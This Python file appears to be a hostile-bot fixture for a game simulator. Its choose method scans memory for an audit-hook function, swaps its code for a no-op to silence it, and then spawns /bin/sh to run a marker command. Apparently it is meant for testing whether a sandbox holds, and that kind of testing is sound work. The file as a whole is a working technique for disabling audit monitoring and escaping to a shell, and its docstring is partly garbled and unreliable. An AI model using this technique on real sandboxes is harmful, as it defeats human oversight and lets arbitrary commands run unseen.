"""Makes the audit hook say nothing, then starts a shell.

Must: be out, tried past Python, in a decision, to start a process, reach another
"""

import gc
import os
import types

from simkit import Bot, Choice


def _quiet():
    writing = changes = two_paths = processes = limits = within = accuse = None
    inside = seen = fsdecode = None

    def hook(event, args):
        return [
            accuse,
            changes,
            fsdecode,
            inside,
            limits,
            processes,
            seen,
            two_paths,
            within,
            writing,
        ][-1]

    return hook.__code__


class Hostile(Bot):
    name = "hostile"

    def choose(self, view, candidates):
        for thing in gc.get_objects():
            if isinstance(thing, types.FunctionType) and thing.__name__ == "hook":
                thing.__code__ = _quiet()
        os.spawnv(os.P_WAIT, "/bin/sh", ["sh", "-c", "id > mark"])
        return Choice(candidates[0])
